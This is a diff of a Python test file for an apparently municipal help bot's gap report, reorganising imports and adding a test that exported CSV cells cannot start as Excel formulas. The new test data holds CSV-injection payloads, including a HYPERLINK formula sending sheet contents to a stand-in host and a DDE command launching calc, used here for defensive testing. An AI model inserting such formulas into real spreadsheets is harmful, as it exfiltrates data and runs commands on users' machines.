@@ -10,8 +10,15 @@ from pathlib import Path
 import pytest
 
 from bot.directory import Directory
-from bot.gaps import GapReport, cli_main, format_summary, format_table, gap_report, write_csv
-from bot.gaps_cli import read_docs_meta
+from bot.gaps import (
+    GapReport,
+    cli_main,
+    format_summary,
+    format_table,
+    gap_report,
+    read_docs_meta,
+    write_csv,
+)
 from bot.state import State
 from indexer.model import DocumentMeta
 
@@ -210,8 +217,8 @@ def test_sample_leaving_horizon(sample_dir: Path) -> None:
 @pytest.mark.integration
 def test_document_data_comes_from_the_index_when_there_is_one(tmp_path: Path) -> None:
     """The CLI prefers the index's document metadata to reading the files again."""
-    from bot.gaps_cli import load_docs_meta
-    from indexer.build import build_index
+    from bot.gaps.cli import load_docs_meta
+    from indexer.build.pipeline import build_index
     from indexer.embedding import FakeEmbedder
     from indexer.settings import IndexSettings
 
@@ -228,3 +235,24 @@ def test_document_data_comes_from_the_index_when_there_is_one(tmp_path: Path) ->
     assert metas is not None and metas["steueramt/hund.md"].tasks == ("hundesteuer",)
     assert metas["steueramt/hund.md"].last_reviewed == date(2023, 5, 1)
     assert load_docs_meta(tmp_path / "kein_index", kb) == {}  # falls back to the (empty) KB
+
+
+# the gap report's CSV is opened in Excel by an admin, and it carries questions any
+# member of staff typed. A question starting with "=", "+", "-" or "@" is a formula there (CSV
+# injection: ``=HYPERLINK(...)`` that sends the sheet's content elsewhere, DDE).
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"Hilfe")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)"]
+
+
+def test_questions_cannot_become_formulas_in_excel(fixture_dir: Path, tmp_path: Path) -> None:
+    state = State(tmp_path / "state.sqlite")
+    for question in FORMULAS:
+        state.record_unanswered(question, "u")
+    report = gap_report(Directory.load(fixture_dir, DOCS), MONDAY, DOCS, state=state)
+    out = io.StringIO()
+    write_csv(report, out)
+    cells = [cell for row in csv.reader(io.StringIO(out.getvalue()), delimiter=";")
+             for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
